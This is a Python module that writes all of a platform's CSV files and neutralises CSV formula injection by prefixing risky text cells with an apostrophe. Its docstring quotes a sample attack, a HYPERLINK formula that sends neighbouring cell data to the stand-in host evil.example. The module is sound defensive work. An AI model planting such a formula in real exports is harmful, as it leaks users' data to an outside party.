"""Every CSV file the platform writes is written here, so that no cell is taken for a formula.

A spreadsheet program that opens a CSV file runs a cell beginning with ``=``, ``+``, ``-`` or ``@``
as a formula, even after a leading tab or carriage return (CSV injection, OWASP): an applicant's
business name ``=HYPERLINK("http://evil.example/?"&D2,"Open")`` becomes a link that sends the
clerk's neighbouring cells away. A *text* cell beginning with one of those characters, a tab, a
carriage return or a line feed (or, as a precaution, the full-width ``＝＋－＠`` that Chinese input
methods type) is written with a ``'`` in front, as OWASP recommends: spreadsheet programs show it
as text. The text is otherwise written as it is, quoted where CSV needs it.

Numbers stay numbers: an ``int``, ``float`` or ``Decimal`` (a negative count, a refund) is written
as Python prints it, with digits, a sign, a point and an exponent only, which cannot be a formula.
The same text as a *string* (``"-5"``, a phone number ``"+86…"``) gets the quote: a string is
typed by someone, and which strings are harmless cannot be told in general.

tests/architecture/test_csv_writers.py fails when a module writes CSV any other way.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

# What a spreadsheet program may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Spreadsheet programs (Excel above all) read a UTF-8 file as the local code page without it.
BOM = "\ufeff"

Cell = str | int | float | Decimal


def cell(value: object) -> Cell:
    """A value as a CSV cell: None empty, numbers as they are, text that could start a formula
    behind a ``'``."""
    if value is None:
        return ""
    # bool is an int, but prints as a word: it is text here (and harmless).
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def text(columns: Sequence[object], rows: Iterable[Sequence[object]], *, bom: bool = True) -> str:
    """A CSV file (RFC 4180: commas, CRLF, quotes where needed) with a header row, every cell
    passed through ``cell``. ``bom`` for files people open; off for output read by programs."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([cell(c) for c in columns])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return (BOM if bom else "") + out.getvalue()
